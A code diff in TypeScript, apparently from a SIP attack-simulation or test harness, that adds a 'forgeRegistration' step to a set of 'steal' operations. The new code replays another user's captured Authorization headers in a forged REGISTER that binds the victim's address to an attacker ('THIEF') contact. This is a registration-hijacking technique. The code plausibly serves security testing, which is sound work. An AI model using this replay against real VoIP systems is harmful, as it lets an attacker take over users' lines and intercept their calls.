@@ -35,7 +35,10 @@ function forge(what: StealStep["what"], id: string, record: Record): string | un
     case "cancel":
       return forgeCancel(newest(record, "sent", isFreshInvite));
     case "registration":
-      return newest(record, "sent", (wire) => wire.method === "REGISTER" && !isThiefs(wire))?.text;
+      return forgeRegistration(
+        newest(record, "sent", (wire) => wire.method === "REGISTER" && !isThiefs(wire)),
+        id,
+      );
     case "name":
       return forgeName(id);
   }
@@ -58,6 +61,27 @@ function isFreshInvite({ method, essentials }: Wire): boolean {
 
 function isThiefs({ message }: Wire): boolean {
   return header(message, "from")?.includes(THIEF) === true;
+}
+
+/** Another's address at this connection, with the proof that was good on the other's own. */
+function forgeRegistration(seen: Wire<SipRequest> | undefined, id: string): string | undefined {
+  if (seen === undefined) return undefined;
+  const { message } = seen;
+  const [from = "", to = ""] = [header(message, "from"), header(message, "to")];
+  const proofs = headers(message, "authorization").map((value) => `Authorization: ${value}`);
+  const lines = [`Contact: <sip:${THIEF}@${HOST}>;expires=300`, ...proofs];
+  const branch = `z9hG4bK-${id}`;
+  return writeRequest({
+    method: "REGISTER",
+    uri: message.uri,
+    host: HOST,
+    branch,
+    from,
+    to,
+    callId: id,
+    cseq: 1,
+    lines,
+  });
 }
 
 function forgeBye(seen: Wire<SipRequest> | undefined, id: string): string | undefined {
